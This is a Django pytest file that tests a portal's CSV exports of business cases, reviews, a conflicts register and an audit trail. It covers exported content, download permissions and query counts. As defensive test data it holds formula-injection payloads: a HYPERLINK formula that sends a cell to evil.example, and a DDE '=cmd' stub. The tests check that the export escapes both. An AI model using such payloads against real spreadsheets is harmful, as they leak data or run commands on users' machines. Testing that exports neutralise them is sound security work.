"""The officers' CSV downloads: business cases, reviews, the conflicts register and a case's audit
trail. Their content after a case has been through the real workflow, cells that a spreadsheet
would run as formulas, who may download them, and their queries at 5 and at 200 rows."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.factories import UserFactory
from accounts.roles import Role
from bids import workflow
from bids.factories import BusinessCaseFactory
from bids.models import BusinessCase, Event, Outcome, Status
from evaluation.models import Assessment, Assignment, Framework, Review, ReviewScore
from evaluation.review import assignments, decisions, moderation, reviews, screening
from kcc_portal import csv_export

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CASES = reverse("admin:bids_businesscase_changelist")
ASSIGNMENTS = reverse("admin:evaluation_assignment_changelist")


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def action(client, url, name, pks):
    return client.post(url, {"action": name, "_selected_action": [str(pk) for pk in pks]})


def trail_url(case) -> str:
    return reverse("admin:bids_businesscase_audit_trail", args=[case.pk])


@pytest.fixture
def decided(assessed_case, commissioning_officer, moderator, reviewers):
    """A case taken through screening, two reviews, moderation and the decision by the workflow's
    own functions, with text typed by the bidder and the reviewers that starts like a formula."""
    case = assessed_case(organisation__name=EVIL_NAME)
    screening.screen(
        case=case,
        by=commissioning_officer,
        route="kent",
        checks=dict.fromkeys(screening.Screening.CHECKS, True),
        outcome="pass",
    )
    comments = ["-2 below what the service needs", "@SUM(A1:A9) is what it costs"]
    for reviewer, comment in zip(reviewers, comments, strict=True):
        assignment = assignments.assign(case=case, reviewer=reviewer, by=commissioning_officer)
        assignments.declare(assignment=assignment, by=reviewer, has_interest=False)
        review = reviews.review_for(assignment)
        criteria = review.framework.criteria.all()
        scores = {c.pk: (3, comment) for c in criteria}
        reviews.save(review=review, by=reviewer, scores=scores, submit=True)
    case = workflow.move(case=case, to=Status.MODERATION, by=moderator)
    moderation.record(
        case=case, by=moderator, scores={c.pk: (3, "Agreed.") for c in criteria}, final=True
    )
    decisions.decide(
        case=case, by=commissioning_officer, outcome=Outcome.ACCEPTED, reasons="Saves money."
    )
    case.refresh_from_db()
    return case


# --- Content -------------------------------------------------------------------------------------


def test_the_cases_csv_has_the_machines_and_the_consensus_totals_and_the_decision(
    client, decided, commissioning_officer
):
    other = BusinessCaseFactory(status=Status.SUBMITTED, reference="RTB-2026-9999")
    client.force_login(commissioning_officer)
    rows = read_csv(action(client, CASES, "export_cases_csv", [decided.pk, other.pk]))
    assert rows[0] == [
        *("reference", "service", "portfolio", "organisation", "status", "submitted at"),
        *("machine total", "machine recommendation", "consensus total"),
        *("consensus recommendation", "outcome", "statutory ground", "decided at"),
        "published at",
    ]
    assessment = Assessment.objects.get(case=decided)
    consensus = decided.consensus
    first = rows[1]
    assert first[:5] == [
        decided.reference,
        decided.service.name,
        "Business capability",
        "'" + EVIL_NAME,  # a spreadsheet shows it as text, never runs it
        "Decided",
    ]
    assert first[6:11] == [
        str(assessment.total),
        assessment.recommendation,
        str(consensus.total),
        consensus.recommendation,
        Outcome.ACCEPTED.label,
    ]
    assert first[11] == "" and first[12].startswith(str(decided.decision.decided_at.year))
    assert first[13] == ""  # not published
    # Nothing assessed, moderated or decided: empty cells, not "None".
    assert rows[2] == [
        *("RTB-2026-9999", other.service.name, "Business capability", other.organisation.name),
        *("Submitted", "", "", "", "", "", "", "", "", ""),
    ]
    assert len(rows) == 3


def test_the_reviews_csv_has_every_score_of_each_submitted_review(
    client, decided, reviewers, moderator
):
    draft = Assignment.objects.create(
        case=decided, reviewer=UserFactory(role=Role.REVIEWER), assigned_by=moderator
    )
    Review.objects.create(assignment=draft, framework=Framework.objects.current())
    client.force_login(moderator)
    rows = read_csv(
        action(
            client,
            ASSIGNMENTS,
            "export_reviews_csv",
            Assignment.objects.values_list("pk", flat=True),
        )
    )
    assert rows[0] == [
        "case",
        "service",
        "reviewer",
        "review submitted at",
        "criterion",
        "criterion key",
        "score",
        "comment",
    ]
    criteria = list(Framework.objects.current().criteria.order_by("order", "pk"))
    assert len(rows) == 1 + 2 * len(criteria)  # the draft review is not exported
    by_reviewer = sorted(reviewers, key=lambda r: r.full_name)
    for n, reviewer in enumerate(by_reviewer):
        block = rows[1 + n * len(criteria) : 1 + (n + 1) * len(criteria)]
        assert [row[2] for row in block] == [reviewer.full_name] * len(criteria)
        assert [row[5] for row in block] == [c.key for c in criteria]
        assert {row[6] for row in block} == {"3"}
    comments = {row[7] for row in rows[1:]}
    assert comments == {"'-2 below what the service needs", "'@SUM(A1:A9) is what it costs"}


def test_the_conflicts_register_lists_every_declaration(client, decided, reviewers, moderator):
    recused = Assignment.objects.create(
        case=decided,
        reviewer=UserFactory(role=Role.REVIEWER, full_name="Ivy Interest"),
        assigned_by=moderator,
        has_interest=True,
        interest="+44 my sister runs the bidder",
    )
    waiting = Assignment.objects.create(
        case=decided,
        reviewer=UserFactory(role=Role.REVIEWER, full_name="Wes Waiting"),
        assigned_by=moderator,
    )
    client.force_login(moderator)
    rows = read_csv(
        action(client, ASSIGNMENTS, "export_csv", Assignment.objects.values_list("pk", flat=True))
    )
    assert rows[0][:3] == ["case", "service", "reviewer"]
    found = {row[2]: row for row in rows[1:]}
    assert set(found) == {r.full_name for r in reviewers} | {"Ivy Interest", "Wes Waiting"}
    assert found["Ivy Interest"][6:8] == ["interest", "'+44 my sister runs the bidder"]
    assert found["Wes Waiting"][6:] == ["not declared", "", ""]
    assert {found[r.full_name][6] for r in reviewers} == {"none"}
    assert found["Ivy Interest"][3] == recused.reviewer.email
    assert waiting.pk  # both listed, whatever their state


def test_the_audit_trail_is_the_cases_whole_timeline(client, decided, commissioning_officer):
    client.force_login(commissioning_officer)
    case_page = client.get(reverse("admin:bids_businesscase_change", args=[decided.pk]))
    assert f'href="{trail_url(decided)}">Audit trail (CSV)</a>' in case_page.content.decode()
    workflow.move(case=decided, to=Status.PUBLISHED, by=commissioning_officer, note="=cmd|' /C")
    rows = read_csv(client.get(trail_url(decided)))
    assert rows[0] == ["at", "event", "from status", "to status", "by", "note"]
    events = list(Event.objects.filter(case=decided).select_related("actor").order_by("at", "pk"))
    assert len(rows) == 1 + len(events)
    assert [row[1] for row in rows[1:]] == [e.get_kind_display() for e in events]
    assert rows[-1][1:] == [
        "Status changed",
        "Decided",
        "Decision published",
        commissioning_officer.full_name,
        "'=cmd|' /C",
    ]
    assessed = next(row for row in rows if row[1] == "Automatic assessment finished")
    assert assessed[4] == ""  # the portal's own doing


def test_an_audit_trail_of_a_case_that_does_not_exist_is_404(client, commissioning_officer):
    client.force_login(commissioning_officer)
    assert client.get(reverse("admin:bids_businesscase_audit_trail", args=[10**9])).status_code == (
        404
    )


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (-400, -400),  # numbers stay numbers
        (None, ""),
        (True, "yes"),
    ],
)
def test_a_cell_that_would_be_a_formula_is_made_text(value, cell):
    assert csv_export.cell(value) == cell


# --- Who may download ----------------------------------------------------------------------------


def downloads(case) -> list[tuple[str, str, dict]]:
    """(method, url, data) of each of the four downloads."""
    pks = [str(pk) for pk in Assignment.objects.values_list("pk", flat=True)]
    return [
        ("post", CASES, {"action": "export_cases_csv", "_selected_action": [str(case.pk)]}),
        ("post", ASSIGNMENTS, {"action": "export_csv", "_selected_action": pks}),
        ("post", ASSIGNMENTS, {"action": "export_reviews_csv", "_selected_action": pks}),
        ("get", trail_url(case), {}),
    ]


@pytest.mark.parametrize("role", [Role.COMMISSIONING_OFFICER, Role.MODERATOR, Role.ADMIN])
def test_officers_who_read_every_case_download_all_four(client, under_review, role):
    client.force_login(UserFactory(role=role))
    for method, url, data in downloads(under_review):
        response = getattr(client, method)(url, data)
        assert response.status_code == 200 and response.streaming, (role, url, data)


def test_a_reviewer_even_cleared_for_the_case_downloads_none(client, under_review, reviewers):
    client.force_login(reviewers[0])
    for method, url, data in downloads(under_review):
        response = getattr(client, method)(url, data)
        # An action not offered is not run: the list again, or back to it.
        assert not response.streaming and "Content-Disposition" not in response, (url, data)
    assert client.get(trail_url(under_review)).status_code == 403
    html = client.get(ASSIGNMENTS).content.decode()
    assert "export_csv" not in html and "export_reviews_csv" not in html


@pytest.mark.parametrize("who", ["bidder", "member", "anonymous"])
def test_bidders_members_and_anonymous_are_sent_to_the_admins_sign_in(client, under_review, who):
    if who == "bidder":
        client.force_login(under_review.created_by)
    elif who == "member":
        client.force_login(UserFactory(role=Role.MEMBER))
    for method, url, data in downloads(under_review):
        response = getattr(client, method)(url, data)
        assert response.status_code == 302 and "/admin/login/" in response["Location"], url
        assert not response.streaming


# --- Queries: as many at 200 rows as at 5 --------------------------------------------------------


def count(function) -> int:
    with CaptureQueriesContext(connection) as queries:
        function()
    return len(queries)


def add_rows(n: int, moderator) -> BusinessCase:
    """`n` more assessed, decided cases, each with a reviewer's submitted review and an event on
    one case's timeline, made in bulk."""
    framework = Framework.objects.current()
    criteria = list(framework.criteria.all())
    first = BusinessCaseFactory(status=Status.DECIDED, outcome=Outcome.ACCEPTED)
    made = [first] + [
        BusinessCaseFactory.build(
            organisation=first.organisation,
            service=first.service,
            created_by=first.created_by,
            status=Status.DECIDED,
            outcome=Outcome.ACCEPTED,
        )
        for _ in range(n - 1)
    ]
    BusinessCase.objects.bulk_create(made[1:])
    Assessment.objects.bulk_create(
        Assessment(
            case=case,
            framework=framework,
            engine_version="t",
            scores=[],
            total="1.0",
            recommendation="BUY",
        )
        for case in made
    )
    reviewer = UserFactory(role=Role.REVIEWER)
    made_assignments = Assignment.objects.bulk_create(
        Assignment(case=case, reviewer=reviewer, assigned_by=moderator, has_interest=False)
        for case in made
    )
    made_reviews = Review.objects.bulk_create(
        Review(assignment=a, framework=framework, submitted_at=a.assigned_at)
        for a in made_assignments
    )
    ReviewScore.objects.bulk_create(
        ReviewScore(review=r, criterion=c, score=2, comment="Fine.")
        for r in made_reviews
        for c in criteria
    )
    trail_case = BusinessCase.objects.order_by("pk").first()
    Event.objects.bulk_create(
        Event(case=trail_case, kind=Event.Kind.VIEWED, actor=moderator) for _ in range(n)
    )
    return trail_case


def test_each_download_makes_as_many_queries_at_200_rows_as_at_5(client, moderator):
    case = add_rows(5, moderator)
    client.force_login(moderator)
    client.get(CASES)  # the session's first request renews it
    # Every case, "select all" across the list's pages; every assignment, ticked one by one.
    all_cases = {"action": "export_cases_csv", "select_across": "1", "index": "0"}

    def counts() -> list[int]:
        ticked = downloads(case)[1:]
        runs = [("post", CASES, all_cases | {"_selected_action": ["0"]}), *ticked]
        return [
            count(lambda m=m, u=u, d=d: b"".join(getattr(client, m)(u, d).streaming_content))
            for m, u, d in runs
        ]

    at_5 = counts()
    add_rows(195, moderator)
    assert counts() == at_5
    rows = read_csv(
        action(
            client,
            ASSIGNMENTS,
            "export_reviews_csv",
            Assignment.objects.values_list("pk", flat=True),
        )
    )
    assert len(rows) == 1 + 200 * Framework.objects.current().criteria.count()
    assert len(read_csv(client.get(trail_url(case)))) == 1 + 200
    assert len(read_csv(client.post(CASES, all_cases | {"_selected_action": ["0"]}))) == 1 + 200
